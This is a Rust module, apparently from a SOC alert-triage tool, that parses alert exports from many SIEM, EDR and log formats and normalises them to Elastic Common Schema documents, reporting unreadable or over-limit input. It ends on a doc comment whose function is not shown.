//! Alerts in: any of the shapes SOCs export, normalised to Elastic Common Schema (ECS) fields.
//!
//! Accepted inputs (one JSON document, a JSON array, or JSON lines — detected per file — and raw
//! log text where a line or the file is not JSON: Linux audit records, syslog lines, Windows
//! event XML, read by the same readers that take such text from a SIEM's message field):
//! ECS documents (nested, dotted keys, or both mixed), Elasticsearch hits (`_source`), Elastic
//! Security detection alerts (`kibana.alert.*`), flat Windows events as NXLog/Logstash ship them
//! (Sysmon 1/3/11/22, Security 4688, PowerShell 4103/4104), winlogbeat's `winlog.event_data`, and
//! Linux/macOS process events in ECS. Alert content is data: nothing here evaluates it.

mod edr;
mod generic;
mod kubernetes;
mod ocsf;
mod siem;
mod xdr;

use crate::funcs;
use serde_json::{Map, Value as Json};
use sha2::{Digest, Sha256};
use std::borrow::Cow;

/// One normalised alert.
#[derive(Clone, Debug, PartialEq)]
pub struct Alert {
    /// Stable id: the source's own id when it has one, else a content hash.
    pub id: String,
    /// The ECS document (nested objects).
    pub doc: Json,
    /// Where it came from in its file, e.g. `line 3` or `element 2`.
    pub position: String,
}

/// A document that could not be read as an alert.
#[derive(Clone, Debug, PartialEq)]
pub struct BadAlert {
    pub position: String,
    pub reason: String,
    /// The start of the raw text, for the quarantine record.
    pub excerpt: String,
}

impl std::fmt::Display for BadAlert {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}: {}", self.position, self.reason)
    }
}

fn excerpt(s: &str) -> String {
    let t: String = s.chars().take(200).collect();
    if t.len() < s.len() {
        format!("{t}…")
    } else {
        t
    }
}

/// Reads a file's text: one JSON document, a JSON array of documents, or JSON lines — and,
/// where a line or the file is not JSON, the raw log text SOCs also replay: Linux audit records
/// (one alert per audit event), syslog lines, Windows event XML.
pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
    let trimmed = text.trim_start_matches('\u{feff}').trim();
    if trimmed.is_empty() {
        return Vec::new();
    }
    if trimmed.starts_with('<')
        && let Some(events) = xml_events(trimmed)
    {
        return events;
    }
    // A whole-file document or array first.
    if let Ok(v) = serde_json::from_str::<Json>(trimmed) {
        return match v {
            Json::Array(items) if is_alert_evidence(&items) => merge_alert_evidence(items),
            Json::Array(items) => items
                .into_iter()
                .enumerate()
                .flat_map(|(i, d)| from_json_expanded(d, &format!("element {}", i + 1)))
                .collect(),
            other => from_json_expanded(other, "document"),
        };
    }
    // JSON lines: each non-empty line is a document; a bad line is reported, the rest go on.
    // A line that is not JSON at all is raw log text: the records of one audit event (which
    // may be interleaved with others) become one alert, at the position of their first line.
    let mut out: Vec<Vec<Result<Alert, BadAlert>>> = Vec::new();
    let mut raw: Vec<(usize, String, String)> = Vec::new(); // slot, position, text
    let mut by_event: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    for (i, line) in text.lines().enumerate() {
        let l = line.trim().trim_start_matches('\u{feff}');
        if l.is_empty() {
            continue;
        }
        let pos = format!("line {}", i + 1);
        match serde_json::from_str::<Json>(l) {
            Ok(d) => out.push(from_json_expanded(d, &pos)),
            Err(e) if l.starts_with(['{', '[', '"']) => out.push(vec![Err(BadAlert {
                position: format!("{pos}, column {}", e.column()),
                reason: format!("not valid JSON: {e}"),
                excerpt: excerpt(l),
            })]),
            Err(_) => {
                let key = audit_event_key(l);
                match key.as_ref().and_then(|k| by_event.get(k)) {
                    Some(&r) => {
                        raw[r].2.push('\n');
                        raw[r].2.push_str(l);
                    }
                    None => {
                        if let Some(k) = key {
                            by_event.insert(k, raw.len());
                        }
                        raw.push((out.len(), pos, l.to_owned()));
                        out.push(Vec::new());
                    }
                }
            }
        }
    }
    for (slot, pos, text) in raw {
        out[slot].push(raw_event(&text, &pos));
    }
    out.into_iter().flatten().collect()
}

/// The event a Linux audit record belongs to: its `audit(time:serial)` stamp, with the node
/// that wrote it when the line names one.
fn audit_event_key(line: &str) -> Option<String> {
    let at = line.find("msg=audit(")?;
    let stamp = &line[at + 10..];
    let stamp = &stamp[..stamp.find(')')?];
    let node = line[..at]
        .split_whitespace()
        .find_map(|w| w.strip_prefix("node="))
        .unwrap_or("");
    Some(format!("{node} {stamp}"))
}

/// One raw log event (an audit event's records, a syslog line, a Windows event's XML) read by
/// the readers that take such text from a SIEM's message field; text none of them reads is
/// reported, not passed on as an empty alert.
fn raw_event(text: &str, position: &str) -> Result<Alert, BadAlert> {
    let unread = || BadAlert {
        position: position.to_owned(),
        reason: "neither JSON nor raw log text Riposte reads (Linux audit records, syslog lines \
                 such as sudo or cron, Windows event XML): export the alert as JSON, a JSON \
                 array or JSON lines"
            .into(),
        excerpt: excerpt(text),
    };
    let mut doc = Map::new();
    doc.insert("message".into(), Json::String(text.to_owned()));
    match from_json(Json::Object(doc), position) {
        Ok(a)
            if a.doc.as_object().is_some_and(|o| {
                o.keys()
                    .any(|k| !matches!(k.as_str(), "message" | "raw" | "@timestamp"))
            }) =>
        {
            Ok(a)
        }
        _ => Err(unread()),
    }
}

/// Windows events as XML (`wevtutil qe /f:xml`, Event Viewer's "Save as XML", a SIEM's raw
/// event): one alert per `<Event>` element; `None` when the text holds none.
fn xml_events(text: &str) -> Option<Vec<Result<Alert, BadAlert>>> {
    // `<Event ` or `<Event>`, not `<Events>` (the wrapper of an export) or `<EventData>`.
    let next = |from: usize| {
        text[from..]
            .match_indices("<Event")
            .map(|(i, _)| from + i)
            .find(|&i| text[i + 6..].starts_with([' ', '>', '\n', '\r', '\t']))
    };
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(start) = next(at) {
        let end = text[start..].find("</Event>")? + start + "</Event>".len();
        let line = text[..start].matches('\n').count() + 1;
        let pos = format!("event {} (line {line})", out.len() + 1);
        out.push(raw_event(&text[start..end], &pos));
        at = end;
    }
    (!out.is_empty()).then_some(out)
}

/// One alert per document of a batch (`name` one, `names` many), at most `MAX_RULE_MATCHES`;
/// the rest are reported with `reason` (`{total}` and `{max}` filled in), never dropped silently.
fn each_capped(
    docs: impl Iterator<Item = Json>,
    total: usize,
    position: &str,
    (name, names): (&str, &str),
    reason: &str,
    whole: &Json,
) -> Vec<Result<Alert, BadAlert>> {
    let mut out: Vec<_> = docs
        .take(MAX_RULE_MATCHES)
        .enumerate()
        .map(|(i, d)| from_json(d, &format!("{position}, {name} {}", i + 1)))
        .collect();
    if total > MAX_RULE_MATCHES {
        out.push(Err(BadAlert {
            position: format!("{position}, {names} {} to {total}", MAX_RULE_MATCHES + 1),
            reason: reason
                .replace("{total}", &total.to_string())
                .replace("{max}", &MAX_RULE_MATCHES.to_string()),
            excerpt: excerpt(&whole.to_string()),
        }));
    }
    out
}

/// Defender's AlertEvidence rows exported together: every row an entity of an alert
/// (`AlertId`, `EntityType`).
fn is_alert_evidence(items: &[Json]) -> bool {
    items.len() > 1
        && items
            .iter()
            .all(|r| r.get("AlertId").is_some() && r.get("EntityType").is_some())
}

/// One alert per `AlertId` from its evidence rows: the last Process row with a command line
/// is the alert and the one before it its parent, the Machine and User rows name the host and
/// account where it lacks them, and every row is kept under `evidence_rows`.
fn merge_alert_evidence(items: Vec<Json>) -> Vec<Result<Alert, BadAlert>> {
    let mut groups: Vec<(String, Vec<Json>)> = Vec::new();
    for r in items {
        let id = r.get("AlertId").map(Json::to_string).unwrap_or_default();
        match groups.iter_mut().find(|(g, _)| *g == id) {
            Some((_, rows)) => rows.push(r),
            None => groups.push((id, vec![r])),
        }
    }
    groups
        .into_iter()
        .enumerate()
        .map(|(i, (_, rows))| {
            let field = |k: &str| {
                rows.iter()
                    .find_map(|r| {
                        r.get(k)
                            .filter(|v| v.as_str().is_some_and(|s| !s.is_empty()))
                    })
                    .cloned()
            };
            // Process rows come in the chain's order: the last is the alert's process, the one
            // before it its parent.
            let procs: Vec<&Json> = rows
                .iter()
                .filter(|r| {
                    r.get("EntityType").and_then(Json::as_str) == Some("Process")
                        && r.get("ProcessCommandLine")
                            .and_then(Json::as_str)
                            .is_some_and(|c| !c.is_empty())
                })
                .collect();
            // The process the alert impacted, where a row says so; else the last.
            let at = procs
                .iter()
                .rposition(|r| r.get("EvidenceRole").and_then(Json::as_str) == Some("Impacted"))
                .or_else(|| procs.len().checked_sub(1));
            let mut main = at
                .map(|i| procs[i])
                .or_else(|| rows.first())
                .cloned()
                .unwrap_or(Json::Null);
            // Its parent: the row whose process id its `AdditionalFields` name as the parent,
            // else the process row before it.
            let extra = |r: &Json, k: &str| -> Option<String> {
                let f: Json = serde_json::from_str(r.get("AdditionalFields")?.as_str()?).ok()?;
                match f.get(k)? {
                    Json::String(v) => Some(v.clone()),
                    Json::Number(n) => Some(n.to_string()),
                    _ => None,
                }
            };
            let parent = at.and_then(|i| {
                extra(procs[i], "ParentProcessId")
                    .and_then(|pp| {
                        procs
                            .iter()
                            .find(|r| extra(r, "ProcessId").as_deref() == Some(pp.as_str()))
                    })
                    .or_else(|| i.checked_sub(1).map(|j| &procs[j]))
                    .copied()
            });
            if let (Json::Object(m), Some(parent)) = (&mut main, parent) {
                for (from, to) in [
                    ("FileName", "InitiatingProcessFileName"),
                    ("FolderPath", "InitiatingProcessFolderPath"),
                    ("ProcessCommandLine", "InitiatingProcessCommandLine"),
                ] {
                    if m.get(to).and_then(Json::as_str).is_none_or(str::is_empty)
                        && let Some(v) = parent.get(from).filter(|v| v.is_string())
                    {
                        m.insert(to.into(), v.clone());
                    }
                }
            }
            if let Json::Object(m) = &mut main {
                for k in [
                    "DeviceName",
                    "AccountName",
                    "AccountDomain",
                    "RemoteUrl",
                    "RemoteIP",
                ] {
                    if m.get(k).and_then(Json::as_str).is_none_or(str::is_empty)
                        && let Some(v) = field(k)
                    {
                        m.insert(k.into(), v);
                    }
                }
                m.insert("evidence_rows".into(), Json::Array(rows.clone()));
            }
            from_json(main, &format!("alert {} of the evidence rows", i + 1))
        })
        .collect()
}

/// A Defender alert holding its evidence rows (`Evidence`, or `AlertEvidence` beside
/// `AlertInfo`): the rows, each given the alert's own fields it lacks (`AlertId`, `Title` …).
fn evidence_with_alert_fields(o: &Map<String, Json>) -> Option<Vec<Json>> {
    let items = o
        .get("Evidence")
        .or_else(|| o.get("AlertEvidence"))?
        .as_array()
        .filter(|i| i.len() > 1 && i.iter().all(|r| r.get("EntityType").is_some()))?;
    let info = o.get("AlertInfo").and_then(Json::as_object).unwrap_or(o);
    let rows: Vec<Json> = items
        .iter()
        .cloned()
        .map(|mut r| {
            if let Json::Object(m) = &mut r {
                for k in [
                    "AlertId",
                    "Title",
                    "Category",
                    "AttackTechniques",
                    "Severity",
                    "Timestamp",
                ] {
                    if !m.contains_key(k)
                        && let Some(v) = info.get(k)
                    {
                        m.insert(k.into(), v.clone());
                    }
                }
            }
            r
        })
        .collect();
    is_alert_evidence(&rows).then_some(rows)
}

/// A reader of a document that holds several alerts: the alerts' documents, or `None`.
type Splitter = fn(&Map<String, Json>) -> Option<Vec<Json>>;

/// Each splitter, the names of its parts, and what to do when a document has too many.
const SPLITTERS: &[(Splitter, (&str, &str), &str)] = &[
    (
        edr::crowdstrike_behaviors,
        ("behaviour", "behaviours"),
        "the detection holds {total} behaviours; the first {max} were taken as alerts and these were not: open the detection in Falcon to review them",
    ),
    (
        xdr::carbon_black_watchlist_docs,
        ("process document", "process documents"),
        "the watchlist hit holds {total} process documents; the first {max} were taken as alerts and these were not: search the watchlist's query in Carbon Black to run them",
    ),
    (
        edr::new_relic_nrql_results,
        ("result", "results"),
        "the NRQL response holds {total} results; the first {max} were taken as alerts and these were not: narrow the query (LIMIT, SINCE) to run them",
    ),
    (
        edr::query_result_rows,
        ("row", "rows"),
        "the query result holds {total} rows; the first {max} were taken as alerts and these were not: narrow or page the query to run them",
    ),
    (
        siem::graylog_backlog,
        ("backlog message", "backlog messages"),
        "the notification holds {total} backlog messages; the first {max} were taken as alerts and these were not: lower the event definition's backlog size to run them",
    ),
    (
        siem::opensearch_findings,
        ("finding", "findings"),
        "the response holds {total} findings; the first {max} were taken as alerts and these were not: page the search (startIndex, size) to run them",
    ),
    (
        edr::datadog_signals_page,
        ("signal", "signals"),
        "the page holds {total} signals; the first {max} were taken as alerts and these were not: page the search (page[limit], page[cursor]) to run them",
    ),
    (
        siem::devo_alerts_page,
        ("alert", "alerts"),
        "the page holds {total} alerts; the first {max} were taken as alerts and these were not: narrow the query's time range to run them",
    ),
    (
        edr::secops_events_page,
        ("event", "events"),
        "the search holds {total} events; the first {max} were taken as alerts and these were not: narrow the search to run them",
    ),
    (
        edr::secops_detections_page,
        ("detection", "detections"),
        "the listing holds {total} detections; the first {max} were taken as alerts and these were not: page the listing (pageToken) to run them",
    ),
    (
        edr::sumo_messages_page,
        ("message", "messages"),
        "the page holds {total} messages; the first {max} were taken as alerts and these were not: page the search job (offset, limit) to run them",
    ),
    (
        siem::graylog_search_messages,
        ("message", "messages"),
        "the search result holds {total} messages; the first {max} were taken as alerts and these were not: page the search (offset, limit) to run them",
    ),
    (
        edr::logzio_samples,
        ("sample", "samples"),
        "the alert carries {total} sample events; the first {max} were taken as alerts and these were not: search the alert's query in Logz.io to run them",
    ),
    (
        edr::splunk_json_rows,
        ("row", "rows"),
        "the search results hold {total} rows; the first {max} were taken as alerts and these were not: page the results (offset, count) to run them",
    ),
    (
        edr::cortex_xdr_reply,
        ("alert", "alerts"),
        "the reply holds {total} alerts; the first {max} were taken as alerts and these were not: page the query (search_from, search_to) to run them",
    ),
    (
        edr::sumo_monitor_results,
        ("result", "results"),
        "the monitor's webhook holds {total} results; the first {max} were taken as alerts and these were not: lower the monitor's result limit or split its query to run them",
    ),
    (
        edr::log_analytics_rows,
        ("row", "rows"),
        "the query result holds {total} rows; the first {max} were taken as alerts and these were not: narrow the query to run them",
    ),
    (
        edr::defender_hunting_results,
        ("row", "rows"),
        "the advanced hunting response holds {total} rows; the first {max} were taken as alerts and these were not: narrow the query (or `take` fewer rows) to run them",
    ),
    (
        edr::santa_line_list,
        ("line", "lines"),
        "the document holds {total} santad lines; the first {max} were taken as alerts and these were not: ship the log one line per event to run them",
    ),
    (
        edr::osquery_snapshot_rows,
        ("row", "rows"),
        "the osquery result holds {total} rows; the first {max} were taken as alerts and these were not: log the query in event format (one row per line) to run them",
    ),
];

/// At most this many events of one rule report become alerts; the rest are reported.
const MAX_RULE_MATCHES: usize = 1000;

/// Normalises one parsed document, or each event of a Sigma engine's rule report.
pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
    // An alert's evidence rows kept together as one record (a test case, a JSON line), or
    // under the alert's own fields (`AlertInfo` joined with its `Evidence`).
    let evidence = match &doc {
        Json::Array(items) if is_alert_evidence(items) => Some(items.clone()),
        Json::Object(o) => evidence_with_alert_fields(o),
        _ => None,
    };
    if let Some(rows) = evidence {
        return merge_alert_evidence(rows);
    }
    // A whole Elasticsearch/Kibana search response (`signals/search`, `_search`): one alert per
    // hit, each read as a hit (`_source`, `_id`).
    if let Json::Object(o) = &doc
        && o.contains_key("hits")
        && let Some(hits) = o
            .get("hits")
            .and_then(|h| h.get("hits"))
            .and_then(Json::as_array)
            .filter(|h| h.iter().all(|x| x.get("_source").is_some()))
    {
        return each_capped(
            hits.iter().cloned(),
            hits.len(),
            position,
            ("hit", "hits"),
            "the search response holds {total} hits; the first {max} were taken as alerts and these were not: page the search (size, search_after) to run them",
            &doc,
        );
    }
    // A vendor API's response envelope: CrowdStrike's `{"meta", "resources": [...]}`,
    // SentinelOne's `{"data": [...], "pagination"}`. One alert per entity.
    if let Json::Object(o) = &doc
        && let Some(items) = o
            .get("resources")
            .filter(|_| o.contains_key("meta"))
            .or_else(|| o.get("data").filter(|_| o.contains_key("pagination")))
            .and_then(Json::as_array)
            .filter(|a| !a.is_empty() && a.iter().all(Json::is_object))
    {
        return each_capped(
            items.iter().cloned(),
            items.len(),
            position,
            ("entity", "entities"),
            "the API response holds {total} entities; the first {max} were taken as alerts and these were not: page the request to run them",
            &doc,
        );
    }
    // A Microsoft Graph / Defender XDR incident (its `alerts[]`, each with its evidence), or a
    // Graph list response (`@odata.context` and `value[]`): one alert per alert.
    if let Json::Object(o) = &doc
        && let Some(items) = o
            .get("alerts")
            .filter(|_| {
                o.contains_key("incidentWebUrl")
                    || o.get("@odata.type")
                        .and_then(Json::as_str)
                        .is_some_and(|t| t.ends_with("incident"))
            })
            .or_else(|| o.get("value").filter(|_| o.contains_key("@odata.context")))
            .and_then(Json::as_array)
            .filter(|a| !a.is_empty() && a.iter().all(Json::is_object))
    {
        return each_capped(
            items.iter().cloned(),
            items.len(),
            position,
            ("alert", "alerts"),
            "the incident or response holds {total} alerts; the first {max} were taken and these were not: fetch them one by one to run them",
            &doc,
        );
    }
    // Documents that hold several alerts of one kind: a Graylog event notification (one per
    // backlogged message), OpenSearch Security Analytics findings (one per finding's matched
    // document), an osquery snapshot (one per row), also when a SOAR's envelope carries them.
    if let Json::Object(o) = &doc {
        let mut inner = Cow::Borrowed(o);
        for depth in 0..5 {
            for (split, names, reason) in SPLITTERS {
                if let Some(docs) = split(&inner) {
                    let total = docs.len();
                    return each_capped(docs.into_iter(), total, position, *names, reason, &doc);
                }
            }
            match siem::unwrap_envelope(&inner) {
                Some(opened) if depth < 4 => inner = Cow::Owned(opened),
                _ => break,
            }
        }
    }
    let (rule, matches) = match rule_matches(doc) {
        Ok(r) => r,
        Err(doc) => return whole_or_listed(doc, position),
    };
    let total = matches.len();
    let mut out = Vec::with_capacity(total.min(MAX_RULE_MATCHES) + 1);
    for (i, m) in matches.into_iter().take(MAX_RULE_MATCHES).enumerate() {
        let pos = format!("{position}, match {}", i + 1);
        match m {
            Json::Object(mut e) => {
                // The rule that fired is the one the report names; an event's own `rule`
                // field is kept beside it.
                if let Some(own) = e.insert("rule".into(), rule.clone()) {
                    e.insert("event_rule".into(), own);
                }
                out.push(from_json(Json::Object(e), &pos));
            }
            other => out.push(Err(BadAlert {
                position: pos,
                reason: format!(
                    "a rule report's match must be a JSON object, found {}",
                    json_type(&other)
                ),
                excerpt: excerpt(&other.to_string()),
            })),
        }
    }
    if total > MAX_RULE_MATCHES {
        out.push(Err(BadAlert {
            position: format!("{position}, matches {} to {total}", MAX_RULE_MATCHES + 1),
            reason: format!(
                "the rule report lists {total} matches; the first {MAX_RULE_MATCHES} were taken as alerts and these were not: split the report (one event per line) to run them"
            ),
            excerpt: excerpt(&rule.to_string()),
        }));
    }
    out
}

/// A document read whole; when no reader knows its shape and its only field is a list of
/// objects (a collector's `{"santa_log": [row, …]}`), each of those objects is an alert.
fn whole_or_listed(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
    let items = match &doc {
        Json::Object(o) if o.len() == 1 => o
            .values()
            .next()
            .and_then(Json::as_array)
            .filter(|a| !a.is_empty() && a.iter().all(Json::is_object))
            .cloned(),
        _ => None,
    };
    let Some(items) = items else {
        return vec![from_json(doc, position)];
    };
    let whole = from_json(doc.clone(), position);
    // Read by a reader that knows the shape, the document is one alert.
    let known = whole.as_ref().is_ok_and(|a| {
        a.doc
            .get("process")
            .and_then(Json::as_object)
            .is_some_and(|p| !p.is_empty())
            && a.doc.pointer("/event/provider").and_then(Json::as_str)
                != Some(generic::UNRECOGNISED)
    });
    if known {
        return vec![whole];
    }
    let total = items.len();
    each_capped(
        items.into_iter(),
        total,
        position,
        ("entry", "entries"),
        "the document lists {total} entries; the first {max} were taken as alerts and these were not: send them one per line to run them",
        &doc,
    )
}

/// Zircolite (and Sigma engines like it) report a rule once with every event it matched:
/// `{"title", "id", "tags", "rule_level", …, "matches": [event, …]}`. Returns the rule (its
/// identifying fields only, not the SQL or description copied into every event) and the
/// events; anything else is returned as is.
fn rule_matches(doc: Json) -> Result<(Json, Vec<Json>), Json> {
    let Json::Object(mut o) = doc else {
        return Err(doc);
    };
    let is_rule = ["title", "rule_title", "sigmafile", "sigma"]
        .iter()
        .any(|k| o.contains_key(*k));
    match o.get("matches") {
        Some(Json::Array(m)) if is_rule && m.iter().any(Json::is_object) => {}
        _ => return Err(Json::Object(o)),
    }
    let Some(Json::Array(matches)) = o.remove("matches") else {
        return Err(Json::Object(o));
    };
    let mut rule = Map::new();
    for k in [
        "title",
        "rule_title",
        "id",
        "tags",
        "level",
        "rule_level",
        "status",
        "sigmafile",
    ] {
        if let Some(v) = o.remove(k) {
            rule.insert(k.into(), v);
        }
    }
    Ok((Json::Object(rule), matches))
}

/// ECS keyword fields the playbooks read as strings. A shipper may send a uid or a host name
/// as a number, a flag as a boolean, a keyword as a one-element list.
const KEYWORDS: &[&str] = &[
    "user.id",
    "user.name",
    "user.domain",
    "user.effective.id",
    "user.effective.name",
    "process.user.id",
    "process.user.name",
    "process.real_user.id",
    "process.working_directory",
    "process.pe.original_file_name",
    "process.pe.description",
    "process.code_signature.subject_name",
    "process.hash.sha256",
    "process.hash.sha1",
    "process.hash.md5",
    "process.parent.working_directory",
    "host.name",
    "host.hostname",
    "host.id",
    "host.os.type",
    "host.os.family",
    "host.os.platform",
    "destination.ip",
    "destination.domain",
    "source.ip",
    "dns.question.name",
    "url.full",
    "url.domain",
    "user_agent.original",
    "file.path",
    "file.name",
    "event.provider",
    "event.action",
    "rule.name",
];

/// ECS field types the playbooks rely on, whatever the shipper sent: the [`KEYWORDS`] are
/// strings (a number or boolean is written out, a one-element list is its element),
/// `process.args` is a list (a string is split as a shell would), and a process's `name`,
/// `executable` and `command_line` are strings (a list is joined with spaces). What cannot be
/// read as a string (an object, a longer list) stays as sent: a check that reads it cannot be
/// evaluated, and the run says so (`run.unevaluated`) instead of deciding on a guess.
fn ecs_types(ecs: &mut Map<String, Json>) {
    fn scalar(v: &Json) -> Option<String> {
        match v {
            Json::Number(n) => Some(n.to_string()),
            Json::Bool(b) => Some(b.to_string()),
            Json::String(s) => Some(s.clone()),
            _ => None,
        }
    }
    for path in KEYWORDS {
        let Some(v) = get_path_mut(ecs, path) else {
            continue;
        };
        let s = match v {
            Json::Number(_) | Json::Bool(_) => scalar(v),
            Json::Array(a) if a.len() == 1 => scalar(&a[0]),
            _ => None,
        };
        if let Some(s) = s {
            *v = Json::String(s);
        }
    }
    // An address or a domain given as a list (a rule's several destinations): the first.
    for path in [
        "destination.ip",
        "destination.domain",
        "source.ip",
        "destination.address",
    ] {
        if let Some(v) = get_path_mut(ecs, path)
            && let Json::Array(a) = v
            && let Some(first) = a.iter().find_map(scalar)
        {
            *v = Json::String(first);
        }
    }
    for p in ["process", "process.parent", "process.parent.parent"] {
        for k in ["name", "executable", "command_line"] {
            let Some(v) = get_path_mut(ecs, &format!("{p}.{k}")) else {
                continue;
            };
            match v {
                Json::Array(a) => {
                    let joined = a.iter().filter_map(Json::as_str).collect::<Vec<_>>();
                    *v = Json::String(joined.join(" "));
                }
                // An object where ECS has text (`executable: {path, name}`): its path or name.
                Json::Object(o) => {
                    let t = ["path", "name", "value"]
                        .iter()
                        .find_map(|f| o.get(*f).and_then(Json::as_str))
                        .map(str::to_owned);
                    match t {
                        Some(t) => *v = Json::String(t),
                        None => *v = Json::String(String::new()),
                    }
                }
                _ => {}
            }
        }
        if let Some(v) = get_path_mut(ecs, &format!("{p}.args"))
            && let Json::String(a) = v
        {
            let list = crate::funcs::split_args(a);
            *v = Json::Array(list.into_iter().map(Json::String).collect());
        }
    }
}

/// The value at a dotted path of a nested map, if every step is an object.
fn get_path_mut<'a>(root: &'a mut Map<String, Json>, path: &str) -> Option<&'a mut Json> {
    let mut parts = path.split('.');
    let first = parts.next()?;
    let mut cur = root.get_mut(first)?;
    for p in parts {
        cur = cur.as_object_mut()?.get_mut(p)?;
    }
    Some(cur)
}

/// A wrapper of one key around an event none of the readers took as it stood (an API's
/// `{"data": {…}}`, ServiceNow's `{"result": {…}}`, a webhook body's `{"alert": {…}}`): the
/// event inside, when it names a process. Tried only after every reader, so a product whose
/// own shape has such a wrapper (a Cybereason response, a Datadog signal) keeps its reader.
fn wrapped_event(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let (k, inner) = obj.iter().next().filter(|_| obj.len() == 1)?;
    if ![
        "data", "result", "alert", "body", "payload", "detail", "record",
    ]
    .contains(&k.as_str())
        || !inner.is_object()
    {
        return None;
    }
    match from_json(inner.clone(), "").ok()?.doc {
        Json::Object(m) if names_process(&m) => Some(m),
        _ => None,
    }
}

/// Whether a normalised document names its process by command line or executable (or its
/// script block): what makes an embedded or wrapped event worth taking.
fn names_process(ecs: &Map<String, Json>) -> bool {
    let text = |v: Option<&Json>| v.and_then(Json::as_str).is_some_and(|v| !v.is_empty());
    ["command_line", "executable"]
        .iter()
        .any(|k| text(ecs.get("process").and_then(|p| p.get(*k))))
        // A script block (4104) names what ran by its code.
        || text(
            ecs.get("powershell")
                .and_then(|p| p.get("file"))
                .and_then(|f| f.get("script_block_text")),
        )
}

/// An event embedded as text in a document none of the readers knows: the first string (at
/// most six levels down) that is a JSON object, or a fenced code block (```) holding one or
/// holding raw log text, that reads as an event naming a process.
fn embedded_event(doc: &Json) -> Option<Map<String, Json>> {
    // Reading a candidate may look inside it again; two levels are enough and bound the work.
    thread_local!(static DEPTH: std::cell::Cell<u8> = const { std::cell::Cell::new(0) });
    if DEPTH.get() >= 2 {
        return None;
    }
    DEPTH.set(DEPTH.get() + 1);
    let found = embedded_event_in(doc);
    DEPTH.set(DEPTH.get() - 1);
    found
}

fn embedded_event_in(doc: &Json) -> Option<Map<String, Json>> {
    fn strings<'a>(v: &'a Json, depth: usize, out: &mut Vec<&'a str>) {
        match v {
            Json::String(t) if t.len() > 20 => out.push(t),
            Json::Object(m) if depth < 6 => m.values().for_each(|x| strings(x, depth + 1, out)),
            Json::Array(a) if depth < 6 => a.iter().for_each(|x| strings(x, depth + 1, out)),
            _ => {}
        }
    }
    let mut texts = Vec::new();
    strings(doc, 0, &mut texts);
    let names_process = |a: &Alert| a.doc.as_object().is_some_and(names_process);
    // A nested object that is itself an event (a case's `events[].data`, a ticket's
    // attachment), breadth first.
    let mut level: Vec<&Map<String, Json>> = doc.as_object().into_iter().collect();
    let mut tried = 0;
    for _ in 0..6 {
        let mut next = Vec::new();
        for m in level {
            for v in m.values() {
                let objs: Vec<&Map<String, Json>> = match v {
                    Json::Object(o) => vec![o],
                    Json::Array(a) => a.iter().filter_map(Json::as_object).take(8).collect(),
                    _ => continue,
                };
                for o in objs {
                    if o.len() >= 3 && tried < 40 {
                        tried += 1;
                        if let Ok(a) = from_json(Json::Object(o.clone()), "")
                            && names_process(&a)
                            && let Json::Object(m) = a.doc
                        {
                            return Some(m);
                        }
                    }
                    next.push(o);
                }
            }
        }
        level = next;
    }
    for t in texts {
        // The whole string only as JSON; raw log text only inside a fence (a string that is
        // itself a log line is the message readers' to read, and reading it here again would
        // never end).
        let mut candidates = vec![(t, true)];
        let mut rest = t;
        while let Some(open) = rest.find("```") {
            let body = &rest[open + 3..];
            let Some(close) = body.find("```") else { break };
            // The block's language tag, if any, ends its first line.
            let block = &body[..close];
            let block = match block.split_once('\n') {
                Some((tag, b)) if !tag.contains(['{', '=', ' ']) => b,
                _ => block,
            };
            candidates.push((block, false));
            rest = &body[close + 3..];
        }
        // Jira's wiki markup fences its blocks as `{noformat}…{noformat}` and
        // `{code:lang}…{code}` (an alert a SIEM's webhook filed as an issue).
        for (open, close) in [("{noformat}", "{noformat}"), ("{code", "{code}")] {
            let mut rest = t;
            while let Some(i) = rest.find(open) {
                let body = &rest[i + open.len()..];
                // `{code:powershell}`: the tag's options end at its brace.
                let body = if open == "{code" {
                    match body.split_once('}') {
                        Some((_, b)) => b,
                        None => break,
                    }
                } else {
                    body
                };
                let Some(end) = body.find(close) else { break };
                candidates.push((&body[..end], false));
                rest = &body[end + close.len()..];
            }
        }
        // JSON after prose (a ticket's description: a sentence, then the event), from a line
        // that opens an object to the end of that object.
        let starts = t
            .match_indices("\n{")
            .map(|(i, _)| i + 1)
            .take(8)
            .filter_map(|i| {
                let mut it = serde_json::Deserializer::from_str(&t[i..]).into_iter::<Json>();
                match it.next() {
                    Some(Ok(Json::Object(_))) => Some(&t[i..i + it.byte_offset()]),
                    _ => None,
                }
            });
        // The whole text (JSON, or `Label: value` prose) after the events fenced inside it (a
        // ticket that summarises an alert in prose and attaches its event in a code block has the
        // event read), before JSON that merely follows the prose.
        candidates.rotate_left(1);
        candidates.extend(starts.map(|c| (c, true)).collect::<Vec<_>>());
        let labelled = labelled_lines(t);
        for &(c, whole) in &candidates {
            let c = c.trim();
            let read = if whole && labelled.is_some() && !c.starts_with('{') {
                vec![from_json(
                    Json::Object(labelled.clone().unwrap_or_default()),
                    "",
                )]
            } else if c.starts_with(['{', '[']) {
                match serde_json::from_str::<Json>(c) {
                    Ok(j @ Json::Object(_)) => vec![from_json(j, "")],
                    // Rows as the JSON text of a list (a story's `osquery_rows`).
                    Ok(Json::Array(rows)) => rows
                        .into_iter()
                        .filter(Json::is_object)
                        .take(16)
                        .map(|r| from_json(r, ""))
                        .collect(),
                    _ => continue,
                }
            } else if !whole {
                parse_text(c)
            } else {
                continue;
            };
            if let Some(a) = read.into_iter().flatten().find(names_process)
                && let Json::Object(m) = a.doc
            {
                return Some(m);
            }
        }
        // Fields laid out as a table (`| process.command_line | … |`), when nothing else in
        // the text is an event: after the JSON and log candidates, and only then parsed.
        let tables = candidates
            .iter()
            .filter(|(c, _)| !c.trim_start().starts_with(['{', '[']))
            .filter_map(|(c, _)| field_table(c));
        for m in tables {
            if let Ok(a) = from_json(Json::Object(m), "")
                && names_process(&a)
                && let Json::Object(m) = a.doc
            {
                return Some(m);
            }
        }
    }
    None
}

/// A block of `ecs.field   value` lines (an alert's fields copied from a console's flyout into a
/// case comment), as dotted ECS fields: at least two, one of them the process's. A note after a
/// value (`MBP-1   (macOS 15.5)`) is dropped, except from command lines.
